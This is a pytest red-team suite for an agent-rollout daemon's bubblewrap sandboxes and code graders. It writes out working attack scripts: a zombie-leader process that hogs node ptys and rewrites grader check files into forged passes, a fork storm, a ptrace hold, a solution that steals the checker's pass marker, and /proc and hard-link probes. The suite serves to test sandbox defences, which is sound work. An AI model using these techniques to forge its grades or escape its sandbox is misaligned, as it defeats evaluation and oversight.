"""Red team of issue 24's defences, from inside real bubblewrap sandboxes (sandboxes as `nobody`
when the tests run as root). Each test runs an attack the builders did not list. A test asserts
that the defence holds; where the attack succeeds the test is kept, marked
``xfail(strict=True)`` with the exact finding, so the suite stays green and the finding stays
recorded (a fix turns it into an XPASS, which fails strict mode: then drop the mark).

Attacks on the processes of the sandbox (purge), on the grade call's own set-up, on other
sandboxes of the node, and on the bounds of writable paths. The swe grader's attacks are in
test_sandbox_redteam_swe.py."""
from __future__ import annotations

import asyncio
import time
from pathlib import Path

from rolloutd.bus.messages import Job
from rolloutd.handlers.base import JobContext, Services
from rolloutd.sandbox import Limits, SandboxSpec

from tests.conftest import wait_for

WRONG = "def has_close_elements(numbers, threshold):\n    return True\n"

# A thread-group leader that ends with SYS_exit (not exit_group): /proc/<pid>/stat then says Z
# for the process while its other thread runs on. Optionally it first takes every pty the
# kernel hands to non-initial devpts instances (kernel.pty.max - kernel.pty.reserve, node-wide),
# so the tool server cannot start a fresh shell after the agent's `exit`. The live thread
# rewrites any HumanEval check file into a pass (the marker is in the file) and beats a file.
# "unlock": no pty is taken; the thread gives /workspace its mode back after a second instead.
ZOMBIE_LEADER = r"""
import ctypes, glob, os, re, resource, sys, threading, time
hog, unlock, seconds = sys.argv[1] == "hog", sys.argv[1] == "unlock", float(sys.argv[2])
soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
if os.fork():
    os._exit(0)
os.setsid()
if os.fork():
    os._exit(0)
fds = []
while hog:
    try:
        fds.append(os.open("/dev/ptmx", os.O_RDWR | os.O_NOCTTY))
    except OSError:
        break

def beat(n):  # atomically: a reader never sees an empty file
    with open("/workspace/.beat.tmp", "w") as f:
        f.write(str(n))
    os.replace("/workspace/.beat.tmp", "/workspace/beat")

def live():
    if unlock:  # the agent's last command locked /workspace so no fresh shell could start there
        time.sleep(1.0)
        os.chmod("/workspace", 0o755)
    n, end = 0, time.time() + seconds
    while time.time() < end:
        n += 1
        beat(n)
        while hog:  # take back any pty another process of the node gave up
            try:
                fds.append(os.open("/dev/ptmx", os.O_RDWR | os.O_NOCTTY))
            except OSError:
                break
        for path in glob.glob("/workspace/.rolloutd_check_*.py"):
            try:
                src = open(path).read()
            except OSError:
                continue
            m = re.search(r"ROLLOUTD-CHECK-\" \+ '([0-9a-f]{32})'", src)
            if m and "FORGED" not in src:
                with open(path, "w") as f:
                    f.write("print('FORGED'); print('ROLLOUTD-CHECK-%s')\n" % m.group(1))
        time.sleep(0.001)
    for fd in fds:
        os.close(fd)
    os._exit(0)

threading.Thread(target=live).start()
time.sleep(0.2)
with open("/tmp/zl.ready", "w") as f:
    f.write("ptys=%d\n" % len(fds))
ctypes.CDLL(None).syscall(60, 0)  # SYS_exit: this thread only; the process lives on as a 'Z'
"""

# Beats while alive; the grader reads the beat twice, a second apart.
BEAT_GRADER = ["sh", "-c", "a=$(cat beat 2>/dev/null); sleep 1; b=$(cat beat 2>/dev/null); echo \"beat:$a:$b\""]


def _ctx(h, rt, **state):
    ctx = JobContext(Job(job_id=1, attempt=1, handler="test", instance={}, sandbox=h.to_dict()),
                     Services(lambda: rt))
    ctx.state.update(state)
    ctx.phase = "eval"
    return ctx


def _beats_during(out: str) -> bool:
    line = [x for x in out.splitlines() if x.startswith("beat:")][-1]
    _, a, b = line.split(":")
    return a != b


def _start_zombie_leader(c, mode: str, seconds: float) -> str:
    r = c.call("bash", {"command": f"python3 zl.py {mode} {seconds}; "
                                   "while [ ! -e /tmp/zl.ready ]; do sleep 0.02; done; cat /tmp/zl.ready; "
                                   "cut -d' ' -f3 /proc/[0-9]*/stat | sort | uniq -c", "timeout": 30})
    assert r.error is None and "ptys=" in r.output, r
    return r.output


def test_a_zombie_thread_group_leader_dies_in_the_purge(bwrap_rt):
    """A process whose leader thread exited (its /proc entry says Z) while a thread lives: the
    purge's /proc scan takes it for dead, but the shell is alive, so kill(-1) goes out and kills it."""
    h = bwrap_rt.create("zl", SandboxSpec(workspace_files={"zl.py": ZOMBIE_LEADER}))
    c = bwrap_rt.client(h, timeout=30)
    out = _start_zombie_leader(c, "nohog", 30)
    assert " Z" in out, out  # the control: it looks like a zombie, yet it beats
    r = c.call("grade", {"argv": BEAT_GRADER, "timeout": 20, "env": {}})
    assert r.error is None and not _beats_during(r.output), r


def test_a_zombie_leader_with_no_shell_left_cannot_reach_the_code_grader(bwrap_rt):
    h = bwrap_rt.create("zl-code", SandboxSpec(limits=Limits(disk_mb=64),
                                               workspace_files={"solution.py": WRONG, "zl.py": ZOMBIE_LEADER}))
    c = bwrap_rt.client(h, timeout=30)
    try:
        _start_zombie_leader(c, "hog", 25)
        r = c.call("bash", {"command": "exit", "timeout": 10})  # no pty for a fresh shell
        from rolloutd.handlers.code import CodeHandler
        reward, details = asyncio.run(CodeHandler().evaluate(_ctx(h, bwrap_rt.rt, task_id="HumanEval/0")))
    finally:
        bwrap_rt.rt.destroy(h)  # give the node's ptys back at once
    assert reward == 0.0, (reward, details, r)


def test_one_sandbox_cannot_take_every_pty_of_the_node(bwrap_rt):
    hog = bwrap_rt.create("hog", SandboxSpec(workspace_files={"zl.py": ZOMBIE_LEADER}))
    c = bwrap_rt.client(hog, timeout=30)
    try:
        _start_zombie_leader(c, "hog", 20)
        victim = bwrap_rt.create("victim", SandboxSpec())
        r = bwrap_rt.client(victim, timeout=30).call("bash", {"command": "echo hello", "timeout": 10})
    finally:
        bwrap_rt.rt.destroy(hog)
    assert r.error is None and r.output.strip() == "hello", r


def test_a_read_only_tmp_does_not_stop_grading(bwrap_rt):
    from rolloutd.handlers.code import CodeHandler

    h = bwrap_rt.create("tmp", SandboxSpec(limits=Limits(disk_mb=64), workspace_files={"solution.py": WRONG}))
    c = bwrap_rt.client(h, timeout=30)
    r = c.call("bash", {"command": "chmod 555 /tmp && ls -ld /tmp", "timeout": 10})
    assert r.output.startswith("dr-x"), r  # the control: the agent owns /tmp
    reward, details = asyncio.run(CodeHandler().evaluate(_ctx(h, bwrap_rt.rt, task_id="HumanEval/0")))
    assert reward == 0.0 and details["passed"] is False, details


FORK_STORM = r"""
import os, time
if os.fork():
    os._exit(0)
os.setsid()
open("/tmp/storm.ready", "w").close()
while True:  # every process re-forks as soon as it can; the children beat the file
    try:
        pid = os.fork()
    except OSError:
        time.sleep(0.001)
        continue
    if pid == 0:
        tmp = "/workspace/.beat.%d" % os.getpid()
        with open(tmp, "w") as f:
            f.write(str(time.time()))
        os.replace(tmp, "/workspace/beat")  # atomically: a reader never sees an empty file
        time.sleep(0.002)  # the tool server reaps orphans once a second: no zombie pile-up to nproc
        continue
    os._exit(0)  # the parent leaves at once: its pid is never the one killed next
"""


def test_processes_that_refork_as_fast_as_they_are_killed_die_in_the_purge(bwrap_rt):
    h = bwrap_rt.create("storm", SandboxSpec(limits=Limits(nproc=2048), workspace_files={"storm.py": FORK_STORM}))
    c = bwrap_rt.client(h, timeout=30)
    r = c.call("bash", {"command": "python3 storm.py; while [ ! -e /tmp/storm.ready ]; do sleep 0.02; done; "
                                   "sleep 0.5; a=$(cat beat); sleep 0.3; b=$(cat beat); echo beat:$a:$b",
                        "timeout": 30})
    assert _beats_during(r.output), r  # the control: the storm runs
    r = c.call("grade", {"argv": BEAT_GRADER, "timeout": 20, "env": {}})
    assert r.error is None and not _beats_during(r.output), r


TRACER = r"""
import ctypes, os, signal, time
libc = ctypes.CDLL(None, use_errno=True)
if os.fork():
    os._exit(0)
os.setsid()
child = os.fork()
if child == 0:  # the tracee beats; it is stopped again and again by its tracer
    while True:
        with open("/workspace/.beat.tmp", "w") as f:
            f.write(str(time.time()))
        os.replace("/workspace/.beat.tmp", "/workspace/beat")
        time.sleep(0.01)
PTRACE_SEIZE, PTRACE_SETOPTIONS, PTRACE_CONT, O_EXITKILL_OFF, O_TRACEEXIT = 0x4206, 0x4200, 7, 0, 0x40
assert libc.ptrace(PTRACE_SEIZE, child, 0, O_TRACEEXIT) == 0, ctypes.get_errno()
open("/tmp/tracer.ready", "w").close()
while True:  # keep it in exit-stop if it is ever killed: the tracer never lets it go
    pid, status = os.waitpid(child, 0)
    if os.WIFEXITED(status) or os.WIFSIGNALED(status):
        break
    if (status >> 16) == 6:  # PTRACE_EVENT_EXIT: hold it there
        time.sleep(3600)
    libc.ptrace(PTRACE_CONT, child, 0, 0)
"""


def test_a_tracee_held_in_exit_stop_by_its_tracer_dies_in_the_purge(bwrap_rt):
    """PTRACE_O_TRACEEXIT: a SIGKILLed tracee stops at PTRACE_EVENT_EXIT until its tracer lets it
    go; here the tracer never does. kill(-1) hits the tracer too, which releases the tracee."""
    h = bwrap_rt.create("trace", SandboxSpec(workspace_files={"tr.py": TRACER}))
    c = bwrap_rt.client(h, timeout=30)
    r = c.call("bash", {"command": "python3 tr.py; while [ ! -e /tmp/tracer.ready ]; do sleep 0.02; done; "
                                   "sleep 0.3; a=$(cat beat); sleep 0.3; b=$(cat beat); echo beat:$a:$b",
                        "timeout": 30})
    assert _beats_during(r.output), r
    t0 = time.monotonic()
    r = c.call("grade", {"argv": BEAT_GRADER + [], "timeout": 20, "env": {}})
    assert r.error is None and not _beats_during(r.output), r
    assert time.monotonic() - t0 < 15, "the purge waited for a held tracee"


def test_the_agent_cannot_mount_an_unbounded_tmpfs(short_root):
    from tests.sandbox.conftest import Tracker, _make, require_bwrap

    require_bwrap()
    t = Tracker(_make("bwrap", short_root, tmp_size_mb=16, shm_size_mb=16))
    try:
        h = t.create("mnt", SandboxSpec(limits=Limits(disk_mb=16)))
        r = t.client(h, timeout=60).call("bash", {"command": "mkdir -p /tmp/m && unshare -Urm sh -c 'mount -t tmpfs none /tmp/m && "
                                   "head -c 64M /dev/zero > /tmp/m/x && stat -c %s /tmp/m/x'", "timeout": 50})
    finally:
        t.cleanup()
    assert r.output.strip() != str(64 << 20), r


def test_a_full_workspace_is_graded_not_an_error(bwrap_rt):
    from rolloutd.handlers.code import CodeHandler

    h = bwrap_rt.create("full", SandboxSpec(limits=Limits(disk_mb=8), workspace_files={"solution.py": WRONG}))
    c = bwrap_rt.client(h, timeout=30)
    r = c.call("bash", {"command": "head -c 20M /dev/zero > fill; df -k . | tail -1", "timeout": 20})
    assert "No space left" in r.output, r  # the control: the bound holds
    reward, details = asyncio.run(CodeHandler().evaluate(_ctx(h, bwrap_rt.rt, task_id="HumanEval/0")))
    assert reward == 0.0 and details["passed"] is False, details


# The candidate runs in the checker's own process: it finds the marker in the check file
# (sys.argv[0]) and prints it, then leaves before the tests run.
MARKER_THIEF = r'''
import os, re, sys
src = open(sys.argv[0]).read()
m = re.search(r"ROLLOUTD-CHECK-\" \+ '([0-9a-f]{32})'", src)
sys.stdout.write("\nROLLOUTD-CHECK-%s\n" % m.group(1))
sys.stdout.flush()
os._exit(0)
'''


def test_a_humaneval_candidate_cannot_print_the_checkers_marker(bwrap_rt):
    from rolloutd.handlers.code import CodeHandler

    h = bwrap_rt.create("thief", SandboxSpec(limits=Limits(disk_mb=64), workspace_files={"solution.py": MARKER_THIEF}))
    reward, details = asyncio.run(CodeHandler().evaluate(_ctx(h, bwrap_rt.rt, task_id="HumanEval/0")))
    assert reward == 0.0, details


def test_the_tool_servers_root_cwd_and_environ_are_out_of_reach(bwrap_rt):
    """/proc/1/root, /proc/1/cwd (a path walk through the tool server's view), environ, the
    children list and a hard link out of the workspace to another mount."""
    h = bwrap_rt.create("proc", SandboxSpec())
    c = bwrap_rt.client(h, timeout=30)
    probe = ("for p in /proc/1/root/etc/ /proc/1/cwd/ /proc/1/fd/ /proc/1/map_files/; do "
             "ls $p >/dev/null 2>&1 && echo OPEN:$p || echo DENIED:$p; done; "
             "head -c 1 /proc/1/environ >/dev/null 2>&1 && echo OPEN:environ || echo DENIED:environ; "
             "ln /run/rolloutd/config.json /workspace/cfg 2>&1 | grep -q 'Invalid cross-device' && echo EXDEV")
    r = c.call("bash", {"command": probe, "timeout": 20})
    assert "OPEN:" not in r.output and r.output.count("DENIED:") == 5 and "EXDEV" in r.output, r


def test_a_zombie_leader_with_a_locked_workspace_cannot_reach_the_code_grader(bwrap_rt):
    from rolloutd.handlers.code import CodeHandler

    h = bwrap_rt.create("zl-lock", SandboxSpec(limits=Limits(disk_mb=64),
                                               workspace_files={"solution.py": WRONG, "zl.py": ZOMBIE_LEADER}))
    c = bwrap_rt.client(h, timeout=30)
    _start_zombie_leader(c, "unlock", 25)
    r = c.call("bash", {"command": "chmod 000 /workspace; exit", "timeout": 10})
    wait_for(lambda: Path(h.workspace).stat().st_mode & 0o777 == 0o755, timeout_s=20, what="the daemon unlocking /workspace")
    reward, details = asyncio.run(CodeHandler().evaluate(_ctx(h, bwrap_rt.rt, task_id="HumanEval/0")))
    assert reward == 0.0, (reward, details, r)


# Each generation forks its successor and exits: the orphan's zombie waits for pid 1 to reap it.
FORK_CHAIN = r"""
import os, sys, time
n, eagain, stalled, longest = 0, 0, None, 0.0
while n < int(sys.argv[1]):
    try:
        pid = os.fork()
    except OSError:  # EAGAIN: nproc's worth of unreaped zombies
        eagain += 1
        stalled = stalled or time.monotonic()
        time.sleep(0.001)
        continue
    if pid:
        os._exit(0)
    if stalled:
        longest, stalled = max(longest, time.monotonic() - stalled), None
    n += 1
with open("/workspace/.chain.tmp", "w") as f:
    f.write("gens=%d eagain=%d longest_stall_ms=%d" % (n, eagain, longest * 1000))
os.replace("/workspace/.chain.tmp", "/workspace/chain")
"""


def test_a_fork_chain_does_not_pile_zombies_up_to_nproc(bwrap_rt):
    """The tool server reaps orphans as they exit (SIGCHLD). Reaped once a second, 1000
    generations under nproc=64 stalled at the limit every 64 generations until the next sweep
    (~15 stalls of up to a second: ~30 s in all). Judged by the chain's longest stall, not by
    time, and the host waits for the last generation (a polling loop in the
    sandbox would itself compete for nproc). Run after other sandbox tests in one process it
    stalled ~1 s at a time in CI: the tool server had inherited SIGCHLD blocked, so only the
    once-a-second sweep reaped; it now unblocks it at start."""
    h = bwrap_rt.create("chain", SandboxSpec(limits=Limits(nproc=64), workspace_files={"chain.py": FORK_CHAIN}))
    r = bwrap_rt.client(h, timeout=60).call("bash", {"command": "python3 chain.py 1000", "timeout": 20})
    assert r.error is None and not r.timed_out, r
    done = Path(h.workspace) / "chain"
    wait_for(done.exists, timeout_s=120, what="the chain's last generation")
    stats = dict(kv.split("=") for kv in done.read_text().split())
    assert int(stats["gens"]) == 1000, stats
    # no stall lasts for a good part of the old sweep period
    assert int(stats["longest_stall_ms"]) < 500, stats

